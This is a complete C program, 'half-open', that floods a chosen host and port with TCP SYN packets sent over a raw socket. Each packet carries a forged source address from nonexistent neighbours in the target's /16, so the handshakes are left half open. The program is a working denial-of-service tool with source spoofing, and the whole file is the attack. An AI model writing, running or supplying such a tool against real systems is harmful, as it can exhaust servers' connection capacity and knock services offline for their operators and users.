// SPDX-License-Identifier: GPL-2.0-only
/*
 * half-open ADDRESS PORT NUMBER: sends that many SYNs to ADDRESS from as many
 * neighbours of its /16 that don't exist, so that nobody answers the SYN-ACKs
 * and the handshakes stay half done.
 */
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
};

/* The checksum of TCP covers a pseudo header: addresses, protocol, length. */
static unsigned short tcp_checksum(const struct segment *s)
{
	struct {
		in_addr_t saddr, daddr;
		unsigned short protocol, length;
		struct tcphdr tcp;
	} pseudo = {
		.saddr = s->ip.saddr,
		.daddr = s->ip.daddr,
		.protocol = htons(IPPROTO_TCP),
		.length = htons(sizeof(s->tcp)),
		.tcp = s->tcp,
	};
	unsigned short words[sizeof(pseudo) / 2];
	unsigned int sum = 0;
	size_t i;

	memcpy(words, &pseudo, sizeof(words));
	for (i = 0; i < sizeof(pseudo) / 2; i++)
		sum += words[i];
	sum = (sum >> 16) + (sum & 0xffff);
	sum += sum >> 16;
	return ~sum;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct segment syn = {
		/* The kernel fills in length, checksum and the like. */
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP },
		.tcp = { .syn = 1, .doff = 5, .window = htons(65535) },
	};
	in_addr_t subnet;
	int fd, i;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		errx(1, "usage: half-open ADDRESS PORT NUMBER");
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		err(1, "raw socket");

	subnet = ntohl(to.sin_addr.s_addr) & 0xffff0000;
	syn.ip.daddr = to.sin_addr.s_addr;
	syn.tcp.dest = htons(atoi(argv[2]));
	for (i = 1; i <= atoi(argv[3]); i++) {
		syn.ip.saddr = htonl(subnet + i);
		syn.tcp.source = htons(10000 + i);
		syn.tcp.seq = htonl(i);
		syn.tcp.check = 0;
		syn.tcp.check = tcp_checksum(&syn);
		if (sendto(fd, &syn, sizeof(syn), 0,
			   (struct sockaddr *)&to, sizeof(to)) < 0)
			err(1, "sendto");
	}
	return 0;
}
